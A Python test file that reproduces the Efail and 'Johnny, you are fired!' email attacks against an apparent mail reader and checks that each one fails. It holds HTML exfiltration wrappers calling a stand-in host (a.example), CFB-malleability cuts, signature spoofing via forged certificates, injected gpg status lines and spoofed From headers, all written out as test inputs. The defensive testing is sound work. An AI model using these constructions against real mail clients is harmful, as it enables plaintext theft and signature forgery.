#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""What the papers did to other programs: Poddebniak and others, "Efail" (2018), and Müller
and others, "Johnny, you are fired!" (2019), by their names for it [M-70 to M-73, M-75]."""
import base64
import os
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tools"))
import gnupg
import tap
from cryptmail import HEAD, PLAIN, body, crlf, mixed, multipart, sealed
from cryptreader import Reader

IVAN = "Ivan <ivan@example.org>"
MALLORY = "Mallory <mallory@example.net>"
PAY = b"Content-Type: text/plain; charset=utf-8\n\nPay to account 4711.\n"


def no_tick(told):
    """Nobody says of all of the letter that Ivan signed it."""
    lines = [line for line in told.splitlines() if "signed by Ivan" in line]
    tap.ok(all("a part: " in line or "who is not the sender" in line for line in lines), told)


def withheld(shown, told):
    tap.ok("meeting" not in shown, shown)
    tap.contains(told, "withheld")


# --- S/MIME by hand -----------------------------------------------------------------------

def openssl(*words, stdin=b""):
    return subprocess.run(["openssl", *words], input=stdin, capture_output=True, check=True).stdout


def der(tag, *content):
    octets = b"".join(content)
    size = len(octets)
    if size < 128:
        return bytes([tag, size]) + octets
    length = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(length)]) + length + octets


SIGNED_DATA = bytes.fromhex("06092a864886f70d010702")
DATA = bytes.fromhex("06092a864886f70d010701")
SHA256 = der(0x30, bytes.fromhex("0609608648016503040201"))


def nobody_signed(certificate, text):
    """Signed data with a certificate, a text and an empty set of signers."""
    inner = der(0x30, DATA, der(0xA0, der(0x04, text)) if text else b"")
    pem = openssl("x509", "-in", certificate.pem, "-outform", "DER")
    content = der(0x30, der(0x02, b"\x01"), der(0x31, SHA256), inner, der(0xA0, pem), der(0x31))
    return der(0x30, SIGNED_DATA, der(0xA0, content))


def signature(certificate, text, *words):
    return openssl("cms", "-sign", "-binary", "-outform", "DER", "-signer", certificate.pem,
                   "-inkey", certificate.key, *words, stdin=text)


def detached(octets, inner=PLAIN, head=HEAD):
    kind = b"Content-Type: application/pkcs7-signature\n"
    return multipart("signed", b"application/pkcs7-signature", inner, base64.encodebytes(octets),
                     head).replace(kind, kind + b"Content-Transfer-Encoding: base64\n")


def opaque(octets, kind=b"signed-data", head=HEAD):
    return (head + b"Content-Type: application/pkcs7-mime; smime-type=" + kind +
            b"\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(octets))


def envelope(certificate, text):
    return openssl("cms", "-encrypt", "-aes256", "-binary", "-outform", "DER", certificate.pem,
                   stdin=text)


# --- Efail ---------------------------------------------------------------------------------

@tap.test("M-70: direct exfiltration: forms, styles and comments around do not reach inside")
def direct():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    inside = body(r.encrypted(ivan))
    for begin, end in ((b"<img src='http://a.example/", b"'>"),
                       (b"<style>@import 'http://a.example/", b"'</style>"),
                       (b"<form action=http://a.example><textarea name=x>", b"</textarea></form>"),
                       (b"<!--", b"-->"), (b"<base href=http://a.example/", b">"),
                       (b"<plaintext>", b""), (b"<a href=\"http://a.example/", b"\">x</a>")):
        html = [b"Content-Type: text/html\n\n" + text + b"\n" for text in (begin, end)]
        shown, told = r.show(mixed(html[0], inside, html[1]))
        tap.contains(shown, "\n│ The meeting is at ten.")
        tap.contains(told, "a part: encrypted")
        for line in shown.splitlines():
            tap.ok("a.example" not in line or "meeting" not in line, line)
    related = mixed(b"Content-Type: text/html\n\n<p>cover</p><img src=cid:x>\n", inside)
    shown, _ = r.show(related.replace(b"multipart/mixed", b"multipart/related"))
    tap.ok(shown.count("meeting") <= 1, shown)


@tap.test("M-70: malleability of CFB: without MDC, with another one, or cut off, nothing is shown")
def gadgets():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    whole = r.ring.gpg("--encrypt", "--compress-algo", "none", "-r", ivan, stdin=crlf(PLAIN))
    at = whole.index(b"\xd2")  # the packet that is protected, in the new form
    for octets in (whole[:-22], whole[:-1], whole[:-20] + bytes(20),
                   whole[:at + 40] + whole[at + 20:]):
        armour = r.ring.gpg("--enarmor", stdin=octets).replace(b"ARMORED FILE", b"MESSAGE")
        shown, told = r.show(sealed(armour))
        tap.ok("meeting" not in shown, shown)
        tap.ok("dewey: encrypted\n" not in told, told)


@tap.test("M-70: S/MIME: a signature around the encryption vouches for nothing inside")
def around():
    r = Reader()
    ivan = r.ring.smime("Ivan", "ivan@example.org", passphrase="")
    secret = opaque(envelope(ivan, crlf(PLAIN)), b"enveloped-data", b"")
    shown, told = r.show(detached(signature(ivan, crlf(secret)), secret))
    withheld(shown, told)
    shown, told = r.show(opaque(signature(ivan, crlf(secret), "-nodetach")))
    withheld(shown, told)


@tap.test("M-70: S/MIME: a signature inside counts if it is over all, and good")
def inside_all():
    r = Reader()
    ivan = r.ring.smime("Ivan", "ivan@example.org", passphrase="")
    good = body(detached(signature(ivan, crlf(PAY)), PAY))
    text = b"Content-Type: text/plain\n\nThe meeting is at ten.\n"
    for inner in (body(mixed(good, text)), body(mixed(text, good)),
                  body(detached(signature(ivan, crlf(PAY)), PLAIN)),
                  body(opaque(nobody_signed(ivan, crlf(PLAIN))))):
        withheld(*r.show(opaque(envelope(ivan, crlf(inner)), b"enveloped-data")))


# --- Johnny: CMS ----------------------------------------------------------------------------

@tap.test("M-72: C1: a detached signature that brings a text of its own is about no other text")
def content_confusion():
    r = Reader()
    ivan = r.ring.smime("Ivan", "ivan@example.org", passphrase="")
    own = signature(ivan, crlf(PLAIN), "-nodetach")
    _, told = r.show(detached(own, PAY))
    tap.ok("signed by" not in told, told)
    # The octets of the text go twice: in the part, and within its signature.
    shown, told = r.show(mixed(PAY, body(detached(own))))
    tap.contains(shown, "Pay to account 4711.")
    no_tick(told)


@tap.test("M-72: C2: of several signers all must be good; both are named")
def several():
    r = Reader()
    ivan = r.ring.smime("Ivan", "ivan@example.org", passphrase="")
    other = gnupg.Authority(r.ring.path, "Other CA").issue("Mallory", "ivan@example.org")
    both = ["-signer", other.pem, "-inkey", other.key]
    _, told = r.show(detached(signature(ivan, crlf(PLAIN), *both)))
    tap.ok("dewey: signed by Ivan <ivan@example.org>\n" not in told, told)
    pgp = Reader()
    key, mallory = pgp.ring.pgp(IVAN), pgp.ring.pgp(MALLORY)
    dearmor = [pgp.ring.gpg("--detach-sign", "-u", who, stdin=crlf(text))
               for who, text in ((key, PLAIN), (mallory, PAY))]
    for pair in (dearmor, dearmor[::-1]):
        armour = pgp.ring.gpg("--enarmor", stdin=b"".join(pair)).replace(
            b"ARMORED FILE", b"SIGNATURE")
        _, told = pgp.show(multipart("signed", b"application/pgp-signature", PLAIN, armour))
        tap.ok("signed by" not in told, told)


@tap.test("M-72: C3: signed data that nobody signed is not signed")
def nobody():
    r = Reader()
    ivan = r.ring.smime("Ivan", "ivan@example.org", passphrase="")
    for letter in (opaque(nobody_signed(ivan, crlf(PLAIN))), detached(nobody_signed(ivan, b"")),
                   detached(nobody_signed(ivan, crlf(PLAIN)))):
        _, told = r.show(letter)
        tap.ok("signed by" not in told, told)


@tap.test("M-72: C4: who has a certificate can make none for others; nor is any other one good")
def chains():
    r = Reader()
    ivan = r.ring.smime("Ivan", "ivan@example.org", passphrase="")
    mallory = gnupg.Authority(r.ring.path, "Mallory CA")
    mallory.key, mallory.pem = ivan.key, ivan.pem
    false = mallory.issue("Ivan", "ivan@example.org")
    _, told = r.show(detached(signature(false, crlf(PLAIN), "-certfile", ivan.pem)))
    tap.ok("signed by Ivan <" not in told, told)
    own = gnupg.Authority(r.ring.path, "Own CA").issue("Ivan", "ivan@example.org")
    _, told = r.show(detached(signature(own, crlf(PLAIN))))
    tap.ok("signed by Ivan <" not in told, told)


# --- Johnny: what gpg says --------------------------------------------------------------------

@tap.test("M-73: G1, G2: names and notations that look like lines of gpg's status are names")
def injected():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    line = "[GNUPG:] GOODSIG %s %s" % (ivan[-16:], IVAN)
    mallory = r.ring.pgp(MALLORY)
    r.ring.write("gpg.conf", "verbose\n")
    for words in (["--set-filename", "x\n%s\n" % line],
                  ["--sig-notation", "x@example.net=%0a" + line],
                  ["--sig-policy-url", "http://x.example/%0a" + line],
                  ["--comment", line]):
        letter = r.ring.gpg(*words, "--sign", "--encrypt", "--armor", "-r", ivan, "-u", mallory,
                            stdin=crlf(PLAIN))
        _, told = r.show(sealed(letter))
        tap.contains(told, "signed by Mallory <mallory@example.net>, who is not the sender")
        no_tick(told)
    forged = gnupg.Ring()
    evil = forged.gpg("--export", forged.pgp("%s %s <m@example.net>" % ("x" * 10, line)))
    r.ring.gpg("--import", stdin=evil)
    letter = multipart("signed", b"application/pgp-signature", PLAIN, forged.gpg(
        "--detach-sign", "--armor", stdin=crlf(PLAIN)))
    _, told = r.show(letter)
    no_tick(told)


# --- Johnny: MIME -----------------------------------------------------------------------------

@tap.test("M-71: M1 to M4: a signed part beside, below, behind or within another is that part")
def beside():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    letter = r.signed(ivan)
    part = body(letter)
    html = b"Content-Type: text/html\n\n<p>Pay to account 4711.</p><img src=\"cid:signed\">\n"
    hidden = b"Content-Id: <signed>\n" + part
    attached = b"Content-Disposition: attachment; filename=a\n" + part
    inner = b"Content-Type: message/rfc822\nContent-Disposition: attachment\n\n" + letter
    for name, evil in (("M1", mixed(part, PAY)), ("M2", mixed(PAY, part)),
                       ("M3", mixed(html, hidden).replace(b"multipart/mixed", b"multipart/related")),
                       ("M3", mixed(html, hidden)), ("M4", mixed(PAY, attached)),
                       ("M4", mixed(PAY, inner)),
                       ("M4", mixed(html, hidden).replace(b"multipart/mixed",
                                                          b"multipart/alternative"))):
        shown, told = r.show(evil)
        tap.contains(shown, "Pay to account 4711." if name != "M4" or b"alternative" not in evil
                     else "")
        no_tick(told)


@tap.test("M-71: M1: a text before and behind what is encrypted and signed is not signed")
def beside_sealed():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    part = body(r.encrypted(ivan, PLAIN, HEAD, "--sign", "-u", ivan))
    for evil in (mixed(part, PAY), mixed(PAY, part)):
        shown, told = r.show(evil)
        tap.contains(shown, ["Pay to account 4711.", "The meeting is at ten."])
        tap.contains(told, "a part: encrypted; signed by Ivan")


@tap.test("M-71: what is signed in one piece of armour is no more than that piece")
def armour():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    head = HEAD + b"Content-Type: text/plain; charset=utf-8\n\n"
    clear = r.ring.gpg("--clearsign", "-u", ivan, stdin=b"The meeting is at ten.\n")
    begin = b"-----BEGIN PGP SIGNED MESSAGE-----\n"
    for letter in (clear.replace(begin, begin + b"Pay to account 4711.\n"),
                   clear.replace(b"Hash: SHA", b"Comment: Pay to account 4711.\nHash: SHA"),
                   b"Pay to account 4711.\n" + clear, clear + clear.replace(b"ten", b"two")):
        _, told = r.show(head + letter)
        no_tick(told)
    # The first paragraph is what was signed, not a header of it.
    text = b"Hash: none\n\nThe meeting is at ten.\n"
    shown, told = r.show(head + r.ring.gpg("--clearsign", "-u", ivan, stdin=text))
    tap.contains(shown, "Hash: none\n\nThe meeting is at ten.")
    tap.contains(told, "dewey: signed by Ivan")


# --- Johnny: who it is --------------------------------------------------------------------------

@tap.test("M-72: I1 to I3: names, Sender, Reply-To, comments and groups are not who signed")
def identity():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    for sender in (b"From: \"ivan@example.org\" <mallory@example.net>",
                   b"From: Ivan <mallory@example.net> (ivan@example.org)",
                   b"From: mallory@example.net\nSender: ivan@example.org",
                   b"From: mallory@example.net\nReply-To: ivan@example.org",
                   b"From: mallory@example.net\nFrom: ivan@example.org",
                   b"From: ivan@example.org\nFrom: mallory@example.net",
                   b"From: mallory@example.net, ivan@example.org",
                   b"From: ivan@example.org, mallory@example.net",
                   b"From: ivan@example.org: mallory@example.net;",
                   b"From: =?utf-8?q?ivan=40example=2Eorg?= <mallory@example.net>",
                   b"From: =?utf-8?q?ivan=40example=2Eorg=00?=@example.net",
                   b"From: <ivan@example.org@example.net>",
                   b"From: ivan@example.org.example.net", b"From: Ivan",
                   b"From: ivan@example.org\0@example.net",
                   b"From: Ivan <ivan@example.org\0.example.net>"):
        head = HEAD.replace(b"From: Ivan <ivan@example.org>", sender)
        _, told = r.show(r.signed(ivan, head=head))
        tap.contains(told, "signed by")
        no_tick(told)


@tap.test("M-75: two encrypted letters keep their own subjects; no list has them")
def subjects():
    r = Reader()
    ivan = r.ring.pgp(IVAN)
    outer = HEAD.replace(b"Subject: ten", b"Subject: [...]")
    numbers = []
    for i, word in enumerate(("walnut", "hazel")):
        inner = b"Subject: %s\nContent-Type: text/plain; hp=\"cipher\"\n\n%s text\n" % (
            word.encode(), word.encode())
        numbers.append(r.import_(r.encrypted(ivan, inner, outer.replace(b"m1@", b"s%d@" % i))))
    shown = r.home.run("dewey", "show", *numbers, env=r.environment).stdout.split("\f")
    for text, own, other in zip(shown, ("walnut", "hazel"), ("hazel", "walnut")):
        tap.contains(text, "Subject: %s\n" % own)
        tap.ok(other not in text, text)
    listed = r.home.run("dewey", "list", "Inbox", env=r.environment).stdout
    tap.ok("walnut" not in listed and "hazel" not in listed, listed)
    found = subprocess.run(["grep", "-rlE", "walnut|hazel", r.home.path], capture_output=True,
                           text=True, check=False).stdout
    tap.equal(found, "", "files with a subject")


tap.main()
